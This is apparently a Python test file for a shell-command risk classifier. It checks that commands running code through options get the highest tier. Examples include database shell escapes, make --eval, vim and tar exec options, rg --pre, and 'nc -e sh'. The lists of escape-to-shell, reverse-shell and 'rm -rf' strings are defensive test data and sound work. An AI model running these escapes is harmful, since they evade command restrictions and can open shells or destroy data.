"""Programs that run code given in an option or an argument (issue 24 §E): a database shell's
dot-commands and meta-commands, make's `--eval`, an editor's start-up commands, a pager's
initial command, an archiver's or a search tool's helper program, a network tool's `exec`.
Each is tier 4 in every spelling; the same programs' plain uses stay tier 3. What already
held (`find -exec`, `git -c core.pager`, `LESSOPEN`, `awk system()`, wrappers) is kept as guards.
"""

from __future__ import annotations

import pytest

from engine_adapter.shell import classify_command


@pytest.fixture
def workspace(tmp_path):
    root = tmp_path / "ws"
    root.mkdir()
    return root


DATABASES = [
    "sqlite3 db .shell",
    "sqlite3 db '.shell touch x'",
    "sqlite3 db '.system id'",
    "sqlite3 db \".once '|sh'\"",
    "sqlite3 db '.output /tmp/x'",
    "sqlite3 db '.import |cmd t'",
    "sqlite3 db '.load ./evil'",
    "sqlite3 db '.read x.sql'",
    "sqlite3 db 'select 1; .shell ls'",
    "sqlite3 db $'select 1\n.system ls'",
    "sqlite3 -cmd '.system ls' db",
    "sqlite3 --cmd '.shell ls' db",
    "sqlite3 -init evil.sql db",
    "sqlite3 -separator , db .sh",
    "sqlite3 db \"select load_extension('./x')\"",
    "sqlite3 db \"select writefile('/tmp/x', 'y')\"",
    "sqlite3 db \"attach '/tmp/x.db' as y\"",
    "sqlite3 db \"vacuum into '/tmp/x'\"",
    "sqlite3 db \"select edit('x', 'vim')\"",
    "sqlite3 db < script.sql",
    "cat x.sql | sqlite3 db",
    "/usr/bin/sqlite3 db .shell",
    "duckdb -c \"copy t to '/tmp/x.csv'\"",
    "duckdb db '.shell ls'",
    "psql -c '\\! touch x'",
    "psql -c '\\o |sh'",
    "psql -c 'select 1' -c '\\! ls'",
    "psql --command='\\! ls'",
    "psql --command '\\copy t to program \"sh\"'",
    "psql -c \"COPY t TO PROGRAM 'sh'\"",
    "psql -c '\\setenv PAGER evil'",
    "psql -c '\\pset pager on'",
    "psql -c '\\i evil.sql'",
    "psql -f migrate.sql",
    "psql --file=migrate.sql",
    "psql db < dump.sql",
    "psql -c \"select lo_export(1, '/tmp/x')\"",
    "mysql -e 'system ls'",
    "mysql -e '\\! ls'",
    "mysql --execute='source evil.sql'",
    "mysql -e \"select 1 into outfile '/tmp/x'\"",
    "mysql db < dump.sql",
    "mariadb -e 'system id'",
    "mongosh --eval 'require(\"child_process\").execSync(\"id\")'",
    "mongosh db script.js --file x.js",
]
DATABASE_HARMLESS = ["sqlite3 db 'select * from t'", "sqlite3 db .tables", "sqlite3 db .schema",
                     "sqlite3 -header db 'select 1'", "sqlite3 db '.mode csv' 'select 1'",
                     "psql -c 'select 1'", "psql -c '\\dt'", "psql -c '\\d+ t'",
                     "psql -d app -c '\\l'", "mysql -e 'select 1'", "duckdb -c 'select 42'"]

TOOLS = [
    "make --eval 'x:;touch /tmp/y' x",
    "make --eval='all:;id'",
    "make --ev='all:;id'",
    "make -E 'all:;id'",
    "make SHELL=/tmp/evil",
    "make test SHELL=./x",
    "make .SHELLFLAGS=-c",
    "make -C /tmp/elsewhere",
    "gmake --eval 'x:;id'",
    "vim -c '!ls'",
    "vim -c ':!touch x' f",
    "vim +'!ls'",
    "vim '+call system(\"id\")' f",
    "vim +:w!/etc/x f",
    "vim --cmd 'silent !id'",
    "vim -S evil.vim",
    "vim -s keys.txt f",
    "vim -u evil.vimrc f",
    "vim -es < cmds.vim",
    "vim --remote-send ':!id<CR>'",
    "vim --servername X --remote-expr 'system(\"id\")'",
    "nvim -c '!ls'",
    "nvim --headless -c 'lua os.execute(\"id\")'",
    "nvim -l x.lua",
    "ex -c '!ls' f",
    "ex f < cmds",
    "view -c '!ls' f",
    "vi +'!ls' f",
    "/usr/bin/vim -c '!ls'",
    "emacs --eval '(shell-command \"id\")'",
    "emacs -batch -l x.el",
    "emacsclient -e '(shell-command \"id\")'",
    "less '+!id' f",
    "less +s/tmp/x f",
    "less --lesskey-file=x f",
    "man -P 'sh -c id' ls",
    "man --pager=evil ls",
    "man -H ls",
    "tar --checkpoint-action=exec=sh -cf a.tar .",
    "tar --checkpoint=1 --checkpoint-action=exec='id' -cf a.tar .",
    "tar --checkpoint-action exec=id -cf a.tar .",
    "tar --to-command=sh -xf a.tar",
    "tar --to-command sh -xf a.tar",
    "tar --to-c=sh -xf a.tar",
    "tar --use-compress-program=sh -cf a.tar .",
    "tar --use=sh -cf a.tar .",
    "tar -I sh -cf a.tar .",
    "tar -I'sh -c id' -cf a.tar .",
    "tar -cIf sh a.tar .",
    "tar cIf sh a.tar .",
    "tar --info-script=x.sh -cf a.tar .",
    "tar -F x.sh -cf a.tar .",
    "tar --rsh-command=/tmp/x -cf host:/a.tar .",
    "tar -cf host:a.tar .",
    "tar cf box:/a.tar .",
    "gtar --to-command=sh -xf a.tar",
    "bsdtar --use-compress-program=sh -cf a.tar .",
    "zip -TT 'sh -c id' -T a.zip f",
    "zip -T -TT=id a.zip f",
    "zip --unzip-command 'id' -T a.zip f",
    "rg --pre sh x",
    "rg --pre=./x.sh pattern",
    "rg --pre ./x --pre-glob '*' pattern",
    "rg --hostname-bin=./x pattern",
    "sort --compress-program=sh f",
    "sdiff --diff-program=sh a b",
    "tcpdump -z ./x -w c.pcap",
    "socat - EXEC:sh",
    "socat TCP-L:80 SYSTEM:id",
    "ncat -e /bin/sh host 1",
    "ncat --sh-exec id host 1",
    "nc -e sh host 1",
]
TOOLS_HARMLESS = ["make", "make test", "make -j4 all", "make CFLAGS=-O2", "vim f", "vim +42 f",
                  "vim +/main f", "vim -u NONE f", "vim -R f", "nvim -d a b", "less f",
                  "less +G f", "less +/error f", "man ls", "tar -czf a.tgz src",
                  "tar -xvf a.tar", "tar xzf a.tgz", "tar --checkpoint=100 -cf a.tar .",
                  "zip -r a.zip src", "zip -T a.zip f", "rg -n foo", "rg --pretty foo",
                  "sort -u f", "socat - TCP:host:80", "nc -zv host 80", "tcpdump -w c.pcap"]

# Held already: kept as guards.
GUARDS = [
    "find . -exec sh -c 'rm -rf x' \\;",
    "find . -execdir rm -rf {} +",
    "git -c core.pager='sh -c id' log",
    "git -c core.fsmonitor=./x status",
    "LESSOPEN='|sh -c id' less f",
    "awk 'BEGIN{system(\"id\")}'",
    "awk 'BEGIN{print | \"sh\"}'",
    "xargs sh -c 'rm -rf x'",
    "xargs rm -rf < list",
    "env -S 'sh -c \"rm -rf x\"'",
    "flock /tmp/l rm -rf x",
    "flock -c 'rm -rf x' l",
    "timeout 5 rm -rf x",
    "nice -n 19 rm -rf x",
    "python3 -c 'import os'",
    "perl -e 'system(1)'",
    "sed -n '1e id' f",
]


@pytest.mark.parametrize("command", DATABASES + TOOLS + GUARDS)
def test_code_given_to_a_program_is_tier_4(workspace, command) -> None:
    found = classify_command(command, workspace)
    assert found.tier == 4, found.reason


@pytest.mark.parametrize("command", DATABASE_HARMLESS + TOOLS_HARMLESS)
def test_plain_uses_stay_tier_3(workspace, command) -> None:
    found = classify_command(command, workspace)
    assert found.tier == 3, found.reason


@pytest.mark.parametrize("wrap", ["command {}", "env {}", "nice {}", "timeout 9 {}",
                                  "A=1 {}", "true; {}", "sh -c \"{}\"", "eval \"{}\"",
                                  "xargs {}", "{} | cat"])
@pytest.mark.parametrize("command", ["sqlite3 db .shell", "make --eval=x", "vim -S x",
                                     "tar --to-command=id -xf a", "rg --pre=id x",
                                     "zip -TT id -T a f"])
def test_wrapped_spellings_are_tier_4(workspace, wrap, command) -> None:
    found = classify_command(wrap.format(command), workspace)
    assert found.tier == 4, found.reason
